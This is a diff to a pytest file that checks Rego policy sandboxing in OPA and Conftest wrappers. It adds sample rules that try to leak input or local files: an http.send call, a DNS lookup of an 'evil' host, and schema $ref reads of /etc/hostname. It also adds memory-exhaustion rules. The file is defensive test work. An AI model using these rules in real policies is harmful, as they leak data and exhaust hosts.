@@ -12,16 +12,19 @@ import pytest
 
 from helpers.core import process
 from helpers.wrappers import rego_capabilities
+from helpers.wrappers.base import TooMuchMemory
 from helpers.wrappers.conftest import Conftest
 from helpers.wrappers.opa import Opa, OpaServer, Undefined
 from helpers.wrappers.policy import RegoError
 from helpers.wrappers.rego_capabilities import FORBIDDEN, restricted
 
-#: Three ways out, each as a rule that would carry something away.
+#: Ways out, each as a rule that would carry something away.
 WAYS_OUT = {
     "http.send": 'http.send({"method": "get", "url": sprintf("http://127.0.0.1:9/%v", [input])}).status_code == 200',
     "opa.runtime": "opa.runtime().env.HOME != input.home",
     "net.lookup_ip_addr": 'count(net.lookup_ip_addr("secret.evil.test")) > 0',
+    "json.match_schema": 'json.match_schema({}, {"$ref": "file:///etc/hostname"})[0]',
+    "json.verify_schema": 'json.verify_schema({"$ref": "file:///etc/hostname"})[0]',
 }
 RULE = 'package main\n\ndeny contains "found" if {\n\t%s\n}\n'
 TEST = "package main_test\n\nimport data.main\n\ntest_it if {\n\tcount(main.deny) == 0\n}\n"
@@ -94,6 +97,22 @@ def test_a_list_in_the_cache_that_allows_more_is_made_again(
     }
     restricted().write_text(json.dumps(more[planted]) if planted in more else planted)
     assert json.loads(restricted().read_text()) == honest
+
+
+#: Each stands for a value of many gigabytes.
+HUGE = ("count(numbers.range(0, 1000000000)) > 1", 'count(net.cidr_expand("::/0")) > 1', "bits.lsh(1, 99999999999) > 0")
+
+
+@pytest.mark.parametrize("rule", HUGE)
+def test_memory_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rule: str) -> None:
+    policy(tmp_path, RULE % rule)
+    assert Conftest.memory == Opa.memory == rego_capabilities.MEMORY <= 2_000_000_000
+    for wrapper in (Conftest, Opa):
+        # As much as they need for what they are asked otherwise; more would only take longer to fill.
+        monkeypatch.setattr(wrapper, "memory", 200_000_000)
+    for reader in ("conftest test", "opa eval", "opa test"):
+        with pytest.raises(TooMuchMemory, match="200,000,000 bytes"):
+            READERS[reader](tmp_path)
 
 
 #: The same with a second to do it in.
